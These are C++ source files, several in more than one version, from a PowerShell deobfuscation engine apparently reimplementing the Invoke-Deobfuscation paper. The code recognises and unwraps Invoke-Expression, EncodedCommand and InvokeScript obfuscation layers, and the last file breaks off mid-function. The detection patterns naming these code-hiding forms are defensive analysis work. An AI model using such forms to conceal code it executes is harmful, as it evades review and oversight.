    if (budget != nullptr) {
      budget->force_checkpoint();
      budget->charge_bytes(payload.size());
    }
    if (fault != nullptr) {
      fault->inject(FaultSite::MultilayerDecode, &payload);
    }
    if (!valid(payload)) return false;
    if (telemetry::enabled()) unwrap_form_counter(form).add();
    rewrites.push_back({pipe.start(), pipe.end(), deobfuscate_inner(payload)});
    return true;
  };

  root.post_order([&](const Ast& node) {
    if (node.kind() != NodeKind::Pipeline) return;
    const auto& pipe = static_cast<const ps::PipelineAst&>(node);
    // Only unwrap statement-position pipelines: replacing an expression
    // operand with multiple statements would break syntax.
    const Ast* parent = pipe.parent();
    const bool statement_position =
        parent == nullptr || parent->kind() == NodeKind::NamedBlock ||
        parent->kind() == NodeKind::StatementBlock ||
        parent->kind() == NodeKind::ScriptBlock;

    if (!statement_position || pipe.elements.empty()) return;

    // Form A: iex '<payload>'  /  Invoke-Expression "<payload>".
    if (pipe.elements.size() == 1 &&
        pipe.elements[0]->kind() == NodeKind::Command) {
      const auto& cmd = static_cast<const ps::CommandAst&>(*pipe.elements[0]);
      if (is_invoke_expression(cmd) && cmd.elements.size() == 2) {
        if (const std::string* payload = constant_string(cmd.elements[1].get())) {
          if (process(*payload, pipe, "iex-arg")) return;
        }
      }
      // Form C: powershell -EncodedCommand <b64> (parameter abbreviations
      // resolved by prefix, as powershell.exe does).
      if (is_powershell(cmd)) {
        for (std::size_t i = 1; i < cmd.elements.size(); ++i) {
          if (cmd.elements[i]->kind() != NodeKind::CommandParameter) continue;
          const auto& p =
              static_cast<const ps::CommandParameterAst&>(*cmd.elements[i]);
          std::string pname = ps::to_lower(p.name);
          if (!pname.empty() && pname.front() == '-') pname = pname.substr(1);
          const std::string kEnc = "encodedcommand";
          if (pname.empty() || kEnc.rfind(pname, 0) != 0) continue;
          // The payload is the parameter's argument or the next element.
          const std::string* payload = nullptr;
          if (p.argument != nullptr) payload = constant_string(p.argument.get());
          if (payload == nullptr && i + 1 < cmd.elements.size()) {
            payload = constant_string(cmd.elements[i + 1].get());
          }
          if (payload == nullptr) continue;
          const auto bytes = ps::base64_decode(*payload);
          if (!bytes) continue;
          const std::string decoded =
              ps::encoding_get_string(ps::TextEncoding::Unicode, *bytes);
          if (!process(decoded, pipe, "encoded-command")) continue;
          return;
        }
      }
    }

    // Form D: $ExecutionContext.InvokeCommand.InvokeScript('<payload>').
    if (pipe.elements.size() == 1 &&
        pipe.elements[0]->kind() == NodeKind::CommandExpression) {
      const auto& ce =
          static_cast<const ps::CommandExpressionAst&>(*pipe.elements[0]);
      if (ce.expression->kind() == NodeKind::InvokeMemberExpression) {
        const auto& inv =
            static_cast<const ps::InvokeMemberExpressionAst&>(*ce.expression);
        const bool is_invokescript =
            inv.constant_member() == "invokescript" ||
            inv.constant_member() == "invokeexpression";
        bool target_is_invokecommand = false;
        if (inv.target != nullptr &&
            inv.target->kind() == NodeKind::MemberExpression) {
          const auto& mem =
              static_cast<const ps::MemberExpressionAst&>(*inv.target);
          target_is_invokecommand = mem.constant_member() == "invokecommand";
        }
        if (is_invokescript && target_is_invokecommand &&
            inv.arguments.size() == 1) {
          if (const std::string* payload =
                  constant_string(inv.arguments[0].get())) {
            if (process(*payload, pipe, "invoke-script")) return;
          }
        }
      }
    }

    // Form B: '<payload>' | iex  (any number of benign middle stages is not
    // supported; the wild pattern is a single pipe).
    if (pipe.elements.size() == 2 &&
        pipe.elements[0]->kind() == NodeKind::CommandExpression &&
        pipe.elements[1]->kind() == NodeKind::Command) {
      const auto& head =
          static_cast<const ps::CommandExpressionAst&>(*pipe.elements[0]);
      const auto& tail = static_cast<const ps::CommandAst&>(*pipe.elements[1]);
      if (is_invoke_expression(tail) && tail.elements.size() == 1) {
        if (const std::string* payload = constant_string(head.expression.get())) {
          process(*payload, pipe, "pipe-to-iex");
        }
      }
    }
  });

  if (rewrites.empty()) return std::string(script);

  // Drop rewrites nested inside other rewrites, then apply right-to-left.
  std::sort(rewrites.begin(), rewrites.end(),
            [](const Rewrite& a, const Rewrite& b) { return a.start < b.start; });
  std::vector<Rewrite> kept;
  for (const Rewrite& r : rewrites) {
    if (!kept.empty() && r.start < kept.back().end) continue;
    kept.push_back(r);
  }
  std::string out(script);
  for (auto it = kept.rbegin(); it != kept.rend(); ++it) {
    if (trace != nullptr) {
      trace->emit({TraceEvent::Kind::LayerUnwrapped, it->start,
                   std::string(script.substr(it->start, it->end - it->start)),
                   it->text, trace->pass()});
    }
    out.replace(it->start, it->end - it->start, it->text);
  }
  if (stats != nullptr) stats->layers_unwrapped += static_cast<int>(kept.size());
  if (!valid(out)) return std::string(script);
  return out;
}

}  // namespace ideobf
