#pragma once

/// \file multilayer.h
/// Phase 2b of Invoke-Deobfuscation (paper section III-B4): multi-layer
/// obfuscation. Recognizes Invoke-Expression in all its disguises and
/// `powershell -EncodedCommand`, unwraps literal string payloads, and hands
/// them back for recursive deobfuscation.

#include <functional>
#include <string>
#include <string_view>

#include "core/trace.h"

namespace ps {
class Budget;
class ParseCache;
class ScriptBlockAst;
}  // namespace ps

namespace ideobf {

class FaultInjector;

// MultilayerStats moved to the public facade (include/ideobf/report.h),
// which core/trace.h re-exports.

/// One unwrap pass. `deobfuscate_inner` is called on each extracted payload
/// (typically the full deobfuscation pipeline). Returns the (possibly
/// unchanged) script; invalid inputs are returned unchanged.
std::string unwrap_layers(
    std::string_view script,
    const std::function<std::string(std::string_view)>& deobfuscate_inner,
    MultilayerStats* stats = nullptr, TraceSink* trace = nullptr);

/// Parse-once overload: unwraps over an already-parsed AST of `script`
/// (extents must index into `script`). Payload and output syntax checks go
/// through `cache` when provided, so the recursive deobfuscation of each
/// payload starts from a cached parse. `budget` (optional) is checkpointed
/// and charged per decoded payload; `fault` (optional) arms the
/// MultilayerDecode injection site on each extracted payload.
std::string unwrap_layers(
    std::string_view script, const ps::ScriptBlockAst& root,
    const std::function<std::string(std::string_view)>& deobfuscate_inner,
    MultilayerStats* stats = nullptr, TraceSink* trace = nullptr,
    ps::ParseCache* cache = nullptr, ps::Budget* budget = nullptr,
    FaultInjector* fault = nullptr);

}  // namespace ideobf
