#include "core/deobfuscator.h"

#include "core/reformat.h"
#include "psast/parse_cache.h"
#include "psast/parser.h"

namespace ideobf {

namespace {

void merge(TokenPassStats& into, const TokenPassStats& from) {
  into.ticks_removed += from.ticks_removed;
  into.aliases_expanded += from.aliases_expanded;
  into.case_normalized += from.case_normalized;
}

void merge(RecoveryStats& into, const RecoveryStats& from) {
  into.pieces_recovered += from.pieces_recovered;
  into.variables_traced += from.variables_traced;
  into.variables_substituted += from.variables_substituted;
}

bool syntax_ok(std::string_view text, ps::ParseCache* cache) {
  return cache != nullptr ? cache->is_valid(text) : ps::is_valid_syntax(text);
}

/// Applies one phase with the paper's per-step syntax check: if the result
/// no longer parses, the step is skipped. With a cache the validity parse
/// is the same parse the next phase (and the next check) will reuse.
template <typename Fn>
std::string checked(std::string_view input, ps::ParseCache* cache, Fn&& phase) {
  std::string out = phase(input);
  if (out == input) return std::string(input);
  if (!syntax_ok(out, cache)) return std::string(input);
  return out;
}

}  // namespace

InvokeDeobfuscator::InvokeDeobfuscator(DeobfuscationOptions options)
    : options_(std::move(options)) {
  if (options_.parse_cache) {
    cache_ = options_.shared_parse_cache != nullptr
                 ? options_.shared_parse_cache
                 : std::make_shared<ps::ParseCache>();
  }
}

std::string InvokeDeobfuscator::deobfuscate(std::string_view script) const {
  DeobfuscationReport report;
  return deobfuscate(script, report);
}

std::string InvokeDeobfuscator::deobfuscate(std::string_view script,
                                            DeobfuscationReport& report) const {
  TraceSink sink;
  TraceSink* trace = options_.collect_trace ? &sink : nullptr;
  ps::ParseCache* cache = cache_.get();
  // One piece-execution memo per run: layers and fixed-point passes share
  // it; runs do not (traced-variable context is per-script anyway).
  RecoveryMemo memo;
  RecoveryMemo* memo_ptr = options_.recovery_memo ? &memo : nullptr;
  std::string out = deobfuscate_layers(script, report, 0, trace, memo_ptr);

  if (options_.rename) {
    out = checked(out, cache, [&](std::string_view s) {
      RenameStats rs;
      std::string r = rename_pass(s, &rs, trace);
      if (rs.renamed) report.rename = rs;
      return r;
    });
  }
  if (options_.reformat) {
    out = checked(out, cache,
                  [](std::string_view s) { return reformat_pass(s); });
  }
  if (trace != nullptr) report.trace = sink.take();
  return out;
}

std::string InvokeDeobfuscator::deobfuscate_layers(std::string_view script,
                                                   DeobfuscationReport& report,
                                                   int depth, TraceSink* trace,
                                                   RecoveryMemo* memo) const {
  if (depth > options_.max_layers) return std::string(script);
  ps::ParseCache* cache = cache_.get();

  std::string cur(script);
  for (int pass = 0; pass < options_.max_layers; ++pass) {
    report.passes++;
    std::string next = cur;

    if (options_.token_pass) {
      next = checked(next, cache, [&](std::string_view s) {
        TokenPassStats ts;
        std::string r = token_pass(s, &ts, trace);
        merge(report.token, ts);
        return r;
      });
    }

    if (options_.ast_recovery) {
      next = checked(next, cache, [&](std::string_view s) {
        RecoveryOptions ro;
        ro.max_steps_per_piece = options_.max_steps_per_piece;
        ro.extra_blocklist = options_.extra_blocklist;
        ro.trace_functions = options_.trace_functions;
        ro.memo = memo;
        RecoveryStats rs;
        std::string r;
        if (cache != nullptr) {
          const ps::ParseCache::Result parsed = cache->get(s);
          r = parsed.ast == nullptr
                  ? std::string(s)
                  : recovery_pass(s, *parsed.ast, ro, &rs, trace, cache);
        } else {
          r = recovery_pass(s, ro, &rs, trace);
        }
        merge(report.recovery, rs);
        return r;
      });
    }

    if (options_.multilayer) {
      next = checked(next, cache, [&](std::string_view s) {
        const auto inner = [&](std::string_view payload) {
          return deobfuscate_layers(payload, report, depth + 1, trace, memo);
        };
        if (cache != nullptr) {
          const ps::ParseCache::Result parsed = cache->get(s);
          if (parsed.ast == nullptr) return std::string(s);
          return unwrap_layers(s, *parsed.ast, inner, &report.multilayer,
                               trace, cache);
        }
        return unwrap_layers(s, inner, &report.multilayer, trace);
      });
    }

    if (next == cur) break;  // fixed point (paper section III-B4)
    cur = std::move(next);
    if (trace != nullptr) trace->set_pass(trace->pass() + 1);
  }
  return cur;
}

}  // namespace ideobf
