#include "core/deobfuscator.h"

#include <algorithm>
#include <array>
#include <atomic>
#include <mutex>
#include <utility>

#include "core/failure.h"
#include "core/fault.h"
#include "frontends/registry.h"

namespace ideobf {

namespace {

void merge(TokenPassStats& into, const TokenPassStats& from) {
  into.ticks_removed += from.ticks_removed;
  into.aliases_expanded += from.aliases_expanded;
  into.case_normalized += from.case_normalized;
}

void merge(RecoveryStats& into, const RecoveryStats& from) {
  into.pieces_recovered += from.pieces_recovered;
  into.variables_traced += from.variables_traced;
  into.variables_substituted += from.variables_substituted;
  into.pieces_failed += from.pieces_failed;
  into.memo_hits += from.memo_hits;
  into.memo_misses += from.memo_misses;
  into.pieces_folded += from.pieces_folded;
  into.bytecode_execs += from.bytecode_execs;
  into.treewalk_fallbacks += from.treewalk_fallbacks;
  into.worst_failure = ps::worse_failure(into.worst_failure, from.worst_failure);
}

telemetry::Counter& governor_attempt_counter() {
  static auto& c =
      telemetry::registry().counter("ideobf_governor_attempt_total");
  return c;
}
telemetry::Counter& governor_ladder_step_counter() {
  static auto& c =
      telemetry::registry().counter("ideobf_governor_ladder_step_total");
  return c;
}
telemetry::Counter& governor_degraded_counter() {
  static auto& c =
      telemetry::registry().counter("ideobf_governor_degraded_total");
  return c;
}
telemetry::Counter& governor_passthrough_counter() {
  static auto& c =
      telemetry::registry().counter("ideobf_governor_passthrough_total");
  return c;
}

/// Per-FailureKind abort counter; label values are ps::to_string's
/// stable kebab names ("timeout", "memory-budget", ...).
telemetry::Counter& governor_failure_counter(ps::FailureKind kind) {
  static std::array<std::atomic<telemetry::Counter*>, 16> slots{};
  auto& slot = slots[static_cast<std::size_t>(kind) % slots.size()];
  telemetry::Counter* c = slot.load(std::memory_order_acquire);
  if (c == nullptr) {
    std::string labels = "kind=\"";
    labels += ps::to_string(kind);
    labels += '"';
    c = &telemetry::registry().counter("ideobf_governor_failure_total", labels);
    slot.store(c, std::memory_order_release);
  }
  return *c;
}

/// Per-language dispatch counters. Label values are registered front-end
/// names (bounded cardinality; an unregistered request is labeled
/// "unknown"). Interned handles cached behind one small locked list — the
/// language set is tiny and these fire once per request, not per piece.
telemetry::Counter& frontend_counter(const char* base,
                                     std::string_view language) {
  struct Cache {
    std::mutex mu;
    std::vector<std::pair<std::string, telemetry::Counter*>> entries;
  };
  static std::array<Cache, 2> caches;
  Cache& cache = caches[std::string_view(base) ==
                                "ideobf_frontend_requests_total"
                            ? 0
                            : 1];
  const std::lock_guard<std::mutex> lock(cache.mu);
  for (const auto& [lang, counter] : cache.entries) {
    if (lang == language) return *counter;
  }
  std::string labels = "language=\"";
  labels += language;
  labels += '"';
  telemetry::Counter* c = &telemetry::registry().counter(base, labels);
  cache.entries.emplace_back(std::string(language), c);
  return *c;
}
telemetry::Counter& frontend_request_counter(std::string_view language) {
  return frontend_counter("ideobf_frontend_requests_total", language);
}
telemetry::Counter& frontend_failure_counter(std::string_view language) {
  return frontend_counter("ideobf_frontend_failures_total", language);
}

/// Applies one phase with the paper's per-step syntax check: if the result
/// no longer parses under the front-end's grammar, the step is skipped.
/// With a parse-caching front-end the validity parse is the same parse the
/// next phase (and the next check) will reuse.
template <typename Fn>
std::string checked(std::string_view input, const LanguageFrontend& fe,
                    Fn&& phase) {
  std::string out = phase(input);
  if (out == input) return std::string(input);
  if (!fe.syntax_ok(out)) return std::string(input);
  return out;
}

}  // namespace

InvokeDeobfuscator::InvokeDeobfuscator(Options options)
    : options_(std::move(options)) {
  if (options_.parse_cache) {
    cache_ = options_.shared_parse_cache != nullptr
                 ? options_.shared_parse_cache
                 : std::make_shared<ps::ParseCache>();
  }
  if (options_.recovery.memo && options_.recovery.share_memo) {
    // Engine-global piece memo: content-addressed and thread-safe, shared by
    // every call, batch slot, and server session on this engine. Copies of
    // the engine share it, like the parse cache.
    memo_ = std::make_shared<RecoveryMemo>();
  }
  frontends_ = FrontendRegistry::instance().create_all(options_, cache_);
}

const LanguageFrontend* InvokeDeobfuscator::frontend(
    std::string_view language) const {
  if (language.empty()) language = kDefaultLanguage;
  for (const auto& fe : frontends_) {
    if (fe->name() == language) return fe.get();
  }
  return nullptr;
}

std::string_view InvokeDeobfuscator::resolve_language(
    std::string_view language, std::string_view source) const {
  if (language.empty()) return kDefaultLanguage;
  if (language != kAutoLanguage) return language;
  const LanguageFrontend* best = nullptr;
  double best_score = -1.0;
  for (const auto& fe : frontends_) {
    const double score = fe->sniff(source);
    if (score > best_score) {  // ties resolve to registration order
      best = fe.get();
      best_score = score;
    }
  }
  return best != nullptr ? best->name() : kDefaultLanguage;
}

std::string InvokeDeobfuscator::deobfuscate(std::string_view script) const {
  DeobfuscationReport report;
  return deobfuscate(script, report);
}

std::string InvokeDeobfuscator::deobfuscate(std::string_view script,
                                            DeobfuscationReport& report) const {
  return deobfuscate(script, report, options_.limits);
}

Options InvokeDeobfuscator::rung_options(int rung) const {
  Options opts = options_;
  if (rung >= 1) {
    // Tightened recovery: same phases, but a hostile piece can burn far
    // less before its per-piece limits fire.
    opts.limits.max_layers = std::min(opts.limits.max_layers, 2);
    opts.limits.max_steps_per_piece =
        std::min<std::size_t>(opts.limits.max_steps_per_piece, 20000);
    opts.limits.max_piece_size =
        std::min<std::size_t>(opts.limits.max_piece_size, 64u << 10);
  }
  if (rung >= 2) {
    // Static passes only: nothing attacker-controlled is executed.
    opts.ast_recovery = false;
    opts.multilayer = false;
  }
  return opts;
}

std::string InvokeDeobfuscator::deobfuscate(
    std::string_view script, DeobfuscationReport& report,
    const Options::Limits& limits) const {
  return deobfuscate(script, report, limits, nullptr);
}

std::string InvokeDeobfuscator::deobfuscate(
    std::string_view script, DeobfuscationReport& report,
    const Options::Limits& limits, RecoveryMemo* shared_memo) const {
  return deobfuscate(script, report, limits, shared_memo, kDefaultLanguage);
}

std::string InvokeDeobfuscator::deobfuscate(
    std::string_view script, DeobfuscationReport& report,
    const Options::Limits& limits, RecoveryMemo* shared_memo,
    std::string_view language) const {
  const std::string_view resolved = resolve_language(language, script);
  const LanguageFrontend* fe = frontend(resolved);
  frontend_request_counter(fe != nullptr ? fe->name() : "unknown").add();
  if (fe == nullptr) {
    // Misrouted request: classified passthrough, same totality contract as
    // the governor's rung 3.
    report = DeobfuscationReport{};
    report.failure = ps::FailureKind::Internal;
    report.failure_detail = "unknown language '";
    report.failure_detail += resolved;
    report.failure_detail += '\'';
    report.degradation_rung = 3;
    frontend_failure_counter("unknown").add();
    return std::string(script);
  }

  // Telemetry envelope: every span closed while this call runs on this
  // thread accumulates into `profile` (the multilayer recursion calls
  // deobfuscate_layers, not this wrapper, so the Pipeline span is per item).
  // The span must close before the profile is read — hence the inner scope —
  // and the impl resets `report`, so the profile is attached afterwards.
  telemetry::PipelineProfile profile;
  std::string out;
  {
    telemetry::ProfileScope profile_scope(&profile);
    telemetry::PhaseSpan pipeline_span(telemetry::Phase::Pipeline);
    out = deobfuscate_impl(script, report, limits, shared_memo, *fe);
  }
  report.profile = profile;
  if (report.degradation_rung >= 3) frontend_failure_counter(fe->name()).add();
  return out;
}

std::string InvokeDeobfuscator::deobfuscate_impl(
    std::string_view script, DeobfuscationReport& report,
    const Options::Limits& limits, RecoveryMemo* shared_memo,
    const LanguageFrontend& fe) const {
  if (!limits.active()) {
    // Ungoverned: the exact pre-governor code path, no budget checkpoints.
    report = DeobfuscationReport{};
    std::string out = run_pipeline(script, report, options_, nullptr,
                                   shared_memo, fe);
    if (report.failure == ps::FailureKind::None) {
      report.failure = report.recovery.worst_failure;
    }
    return out;
  }

  // Deadline ladder: 1x, 0.5x, 0.25x of the configured deadline — worst
  // case ~1.75x before passthrough, keeping the "no item exceeds ~2x its
  // deadline" contract.
  static constexpr double kDeadlineFraction[] = {1.0, 0.5, 0.25};
  ps::FailureKind first_failure = ps::FailureKind::None;
  std::string first_detail;
  int attempts = 0;

  for (int rung = 0; rung <= 2; ++rung) {
    if (rung > 0 && !limits.degrade) break;
    if (limits.cancel.cancelled()) {  // don't retry cancelled work
      if (first_failure == ps::FailureKind::None) {
        first_failure = ps::FailureKind::Cancelled;
        first_detail = std::string(kCancelledDetail);
      }
      break;
    }
    ps::Budget budget(ps::Budget::Limits{
        limits.deadline_seconds * kDeadlineFraction[rung],
        limits.memory_budget_bytes, limits.cancel});
    DeobfuscationReport attempt;
    ++attempts;
    governor_attempt_counter().add();
    if (rung > 0) governor_ladder_step_counter().add();
    try {
      std::string out = run_pipeline(script, attempt, rung_options(rung),
                                     &budget, shared_memo, fe);
      report = std::move(attempt);
      report.degradation_rung = rung;
      report.attempts = attempts;
      if (rung > 0) governor_degraded_counter().add();
      if (first_failure != ps::FailureKind::None) {
        report.failure = first_failure;
        report.failure_detail = first_detail;
      } else if (report.failure == ps::FailureKind::None) {
        report.failure = report.recovery.worst_failure;
      }
      return out;
    } catch (...) {
      auto [kind, detail] = classify_current_exception();
      if (telemetry::enabled()) governor_failure_counter(kind).add();
      if (first_failure == ps::FailureKind::None) {
        first_failure = kind;
        first_detail = std::move(detail);
      }
      if (kind == ps::FailureKind::Cancelled) break;
    }
  }

  // Rung 3: passthrough. Deobfuscation is total by contract — the hostile
  // input is served back unchanged, classified.
  governor_passthrough_counter().add();
  governor_degraded_counter().add();
  report = DeobfuscationReport{};
  report.degradation_rung = 3;
  report.attempts = attempts;
  report.failure = first_failure;
  report.failure_detail = std::move(first_detail);
  return std::string(script);
}

std::string InvokeDeobfuscator::run_pipeline(std::string_view script,
                                             DeobfuscationReport& report,
                                             const Options& opts,
                                             ps::Budget* budget,
                                             RecoveryMemo* shared_memo,
                                             const LanguageFrontend& fe) const {
  TraceSink sink(opts.telemetry.max_trace_events);
  TraceSink* trace = opts.telemetry.collect_trace ? &sink : nullptr;
  if (opts.fault_injector != nullptr) {
    opts.fault_injector->inject(FaultSite::Parse);
  }
  // Classify invalid input up front (the phases would all no-op on it
  // anyway); the output contract — returned unchanged — is preserved by the
  // per-phase syntax checks exactly as before.
  if (!fe.syntax_ok(script)) {
    report.failure = ps::FailureKind::ParseError;
    report.failure_detail = "input does not parse";
  }
  // Memo selection: an explicit caller-supplied memo wins, then the
  // engine-global memo (shared across every call, batch slot and server
  // session — sound because memo keys fingerprint the full evaluation
  // context, limits and language salt included), then a run-local memo
  // shared only by the layers and fixed-point passes of this run.
  RecoveryMemo local_memo;
  RecoveryMemo* memo_ptr =
      !opts.recovery.memo ? nullptr
      : shared_memo != nullptr ? shared_memo
      : memo_ != nullptr       ? memo_.get()
                               : &local_memo;
  std::string out = deobfuscate_layers(script, report, 0, trace, memo_ptr,
                                       opts, budget, fe);

  if (opts.rename) {
    if (budget != nullptr) budget->force_checkpoint();
    telemetry::PhaseSpan span(telemetry::Phase::Rename);
    out = checked(out, fe, [&](std::string_view s) {
      RenameStats rs;
      std::string r = fe.rename_pass(s, rs, trace);
      if (rs.renamed) report.rename = rs;
      return r;
    });
  }
  if (opts.reformat) {
    if (budget != nullptr) budget->force_checkpoint();
    telemetry::PhaseSpan span(telemetry::Phase::Reformat);
    out = checked(out, fe,
                  [&](std::string_view s) { return fe.reformat_pass(s); });
  }
  if (trace != nullptr) {
    report.trace = sink.take();
    report.trace_truncated = sink.truncated();
    report.trace_dropped = sink.dropped();
  }
  return out;
}

std::string InvokeDeobfuscator::deobfuscate_layers(
    std::string_view script, DeobfuscationReport& report, int depth,
    TraceSink* trace, RecoveryMemo* memo, const Options& opts,
    ps::Budget* budget, const LanguageFrontend& fe) const {
  if (depth > opts.limits.max_layers) return std::string(script);

  FrontendPhaseContext ctx;
  ctx.opts = &opts;
  ctx.budget = budget;
  ctx.memo = memo;
  ctx.fault = opts.fault_injector;

  std::string cur(script);
  for (int pass = 0; pass < opts.limits.max_layers; ++pass) {
    report.passes++;
    std::string next = cur;

    if (opts.token_pass) {
      if (budget != nullptr) budget->force_checkpoint();
      telemetry::PhaseSpan span(telemetry::Phase::TokenPass);
      next = checked(next, fe, [&](std::string_view s) {
        TokenPassStats ts;
        std::string r = fe.token_pass(s, ts, trace);
        merge(report.token, ts);
        return r;
      });
    }

    if (opts.ast_recovery) {
      if (budget != nullptr) budget->force_checkpoint();
      next = checked(next, fe, [&](std::string_view s) {
        RecoveryStats rs;
        std::string r = fe.recovery_pass(s, ctx, rs, trace);
        merge(report.recovery, rs);
        return r;
      });
    }

    if (opts.multilayer) {
      if (budget != nullptr) budget->force_checkpoint();
      // The scan span; each extracted payload opens a nested decode span
      // (with the disguise form as detail) inside unwrap_layers.
      telemetry::PhaseSpan span(telemetry::Phase::MultilayerDecode, "scan");
      next = checked(next, fe, [&](std::string_view s) {
        const auto inner = [&](std::string_view payload) {
          return deobfuscate_layers(payload, report, depth + 1, trace, memo,
                                    opts, budget, fe);
        };
        return fe.unwrap_layers(s, ctx, report.multilayer, trace, inner);
      });
    }

    if (next == cur) break;  // fixed point (paper section III-B4)
    cur = std::move(next);
    if (trace != nullptr) trace->set_pass(trace->pass() + 1);
  }
  return cur;
}

}  // namespace ideobf
