#include "core/deobfuscator.h"

#include "core/reformat.h"
#include "psast/parser.h"

namespace ideobf {

namespace {

void merge(TokenPassStats& into, const TokenPassStats& from) {
  into.ticks_removed += from.ticks_removed;
  into.aliases_expanded += from.aliases_expanded;
  into.case_normalized += from.case_normalized;
}

void merge(RecoveryStats& into, const RecoveryStats& from) {
  into.pieces_recovered += from.pieces_recovered;
  into.variables_traced += from.variables_traced;
  into.variables_substituted += from.variables_substituted;
}

/// Applies one phase with the paper's per-step syntax check: if the result
/// no longer parses, the step is skipped.
template <typename Fn>
std::string checked(std::string_view input, Fn&& phase) {
  std::string out = phase(input);
  if (out == input) return std::string(input);
  if (!ps::is_valid_syntax(out)) return std::string(input);
  return out;
}

}  // namespace

std::string InvokeDeobfuscator::deobfuscate(std::string_view script) const {
  DeobfuscationReport report;
  return deobfuscate(script, report);
}

std::string InvokeDeobfuscator::deobfuscate(std::string_view script,
                                            DeobfuscationReport& report) const {
  TraceSink sink;
  TraceSink* trace = options_.collect_trace ? &sink : nullptr;
  std::string out = deobfuscate_layers(script, report, 0, trace);

  if (options_.rename) {
    out = checked(out, [&](std::string_view s) {
      RenameStats rs;
      std::string r = rename_pass(s, &rs, trace);
      if (rs.renamed) report.rename = rs;
      return r;
    });
  }
  if (options_.reformat) {
    out = checked(out, [](std::string_view s) { return reformat_pass(s); });
  }
  if (trace != nullptr) report.trace = sink.take();
  return out;
}

std::string InvokeDeobfuscator::deobfuscate_layers(std::string_view script,
                                                   DeobfuscationReport& report,
                                                   int depth,
                                                   TraceSink* trace) const {
  if (depth > options_.max_layers) return std::string(script);

  std::string cur(script);
  for (int pass = 0; pass < options_.max_layers; ++pass) {
    report.passes++;
    std::string next = cur;

    if (options_.token_pass) {
      next = checked(next, [&](std::string_view s) {
        TokenPassStats ts;
        std::string r = token_pass(s, &ts, trace);
        merge(report.token, ts);
        return r;
      });
    }

    if (options_.ast_recovery) {
      next = checked(next, [&](std::string_view s) {
        RecoveryOptions ro;
        ro.max_steps_per_piece = options_.max_steps_per_piece;
        ro.extra_blocklist = options_.extra_blocklist;
        ro.trace_functions = options_.trace_functions;
        RecoveryStats rs;
        std::string r = recovery_pass(s, ro, &rs, trace);
        merge(report.recovery, rs);
        return r;
      });
    }

    if (options_.multilayer) {
      next = checked(next, [&](std::string_view s) {
        return unwrap_layers(
            s,
            [&](std::string_view payload) {
              return deobfuscate_layers(payload, report, depth + 1, trace);
            },
            &report.multilayer, trace);
      });
    }

    if (next == cur) break;  // fixed point (paper section III-B4)
    cur = std::move(next);
    if (trace != nullptr) trace->set_pass(trace->pass() + 1);
  }
  return cur;
}

}  // namespace ideobf
