#pragma once

/// \file trace.h
/// Structured transformation trace: every change the deobfuscator makes
/// (token normalized, piece recovered, variable substituted, layer
/// unwrapped, identifier renamed) as an auditable event, so an analyst can
/// verify *why* the output is what it is — the explainability counterpart
/// to the paper's layer-by-layer screenshots (Fig 7).

#include <cstddef>
#include <vector>

#include "ideobf/report.h"

namespace ideobf {

// TraceEvent, to_string(TraceEvent::Kind) and render_trace moved to the
// public facade (include/ideobf/report.h): the trace is part of what every
// deobfuscation returns, so its types live with DeobfuscationReport. Only
// the engine-internal collector stays here.

/// Collector passed through the pipeline phases; null sink = tracing off.
/// Collection is capped (`max_events`, default 10k): a hostile script with
/// unbounded churn must not balloon the trace; overflow is counted, not kept.
class TraceSink {
 public:
  static constexpr std::size_t kDefaultMaxEvents = 10000;

  explicit TraceSink(std::size_t max_events = kDefaultMaxEvents)
      : max_events_(max_events == 0 ? 1 : max_events) {}

  void emit(TraceEvent event) {
    if (events_.size() >= max_events_) {
      ++dropped_;
      return;
    }
    events_.push_back(std::move(event));
  }
  [[nodiscard]] const std::vector<TraceEvent>& events() const { return events_; }
  [[nodiscard]] std::vector<TraceEvent> take() { return std::move(events_); }
  void set_pass(int pass) { pass_ = pass; }
  [[nodiscard]] int pass() const { return pass_; }
  [[nodiscard]] bool truncated() const { return dropped_ != 0; }
  [[nodiscard]] std::size_t dropped() const { return dropped_; }

 private:
  std::vector<TraceEvent> events_;
  int pass_ = 0;
  std::size_t max_events_;
  std::size_t dropped_ = 0;
};

}  // namespace ideobf
