#pragma once

/// \file trace.h
/// Structured transformation trace: every change the deobfuscator makes
/// (token normalized, piece recovered, variable substituted, layer
/// unwrapped, identifier renamed) as an auditable event, so an analyst can
/// verify *why* the output is what it is — the explainability counterpart
/// to the paper's layer-by-layer screenshots (Fig 7).

#include <cstddef>
#include <string>
#include <string_view>
#include <vector>

namespace ideobf {

struct TraceEvent {
  enum class Kind {
    TokenNormalized,      ///< token pass: ticks/case/alias fixed
    PieceRecovered,       ///< recoverable node executed and replaced
    VariableTraced,       ///< assignment recorded in the symbol table
    VariableSubstituted,  ///< variable use replaced by its value
    LayerUnwrapped,       ///< iex / -EncodedCommand payload inlined
    Renamed,              ///< randomized identifier renamed
  };

  Kind kind;
  /// Byte offset in the text version the pass was operating on (passes
  /// rewrite the script, so offsets are per-pass, not global).
  std::size_t offset = 0;
  std::string before;
  std::string after;
  int pass = 0;  ///< fixed-point iteration index
};

std::string_view to_string(TraceEvent::Kind kind);

/// Renders a trace as readable lines ("[pass 0] recovered @12: '...' -> ...").
/// `dropped` (events discarded by a capped TraceSink) appends a trailing
/// truncation note so a clipped trace is never mistaken for a complete one.
std::string render_trace(const std::vector<TraceEvent>& trace,
                         std::size_t max_payload = 60,
                         std::size_t dropped = 0);

/// Collector passed through the pipeline phases; null sink = tracing off.
/// Collection is capped (`max_events`, default 10k): a hostile script with
/// unbounded churn must not balloon the trace; overflow is counted, not kept.
class TraceSink {
 public:
  static constexpr std::size_t kDefaultMaxEvents = 10000;

  explicit TraceSink(std::size_t max_events = kDefaultMaxEvents)
      : max_events_(max_events == 0 ? 1 : max_events) {}

  void emit(TraceEvent event) {
    if (events_.size() >= max_events_) {
      ++dropped_;
      return;
    }
    events_.push_back(std::move(event));
  }
  [[nodiscard]] const std::vector<TraceEvent>& events() const { return events_; }
  [[nodiscard]] std::vector<TraceEvent> take() { return std::move(events_); }
  void set_pass(int pass) { pass_ = pass; }
  [[nodiscard]] int pass() const { return pass_; }
  [[nodiscard]] bool truncated() const { return dropped_ != 0; }
  [[nodiscard]] std::size_t dropped() const { return dropped_; }

 private:
  std::vector<TraceEvent> events_;
  int pass_ = 0;
  std::size_t max_events_;
  std::size_t dropped_ = 0;
};

}  // namespace ideobf
