#include <algorithm>
#include "core/rename.h"

#include <cctype>
#include <map>
#include <vector>

#include "analysis/randomness.h"
#include "pslang/alias_table.h"
#include "pslang/lexer.h"

namespace ideobf {

using ps::Token;
using ps::TokenType;

namespace {

bool is_automatic_variable(const std::string& lower) {
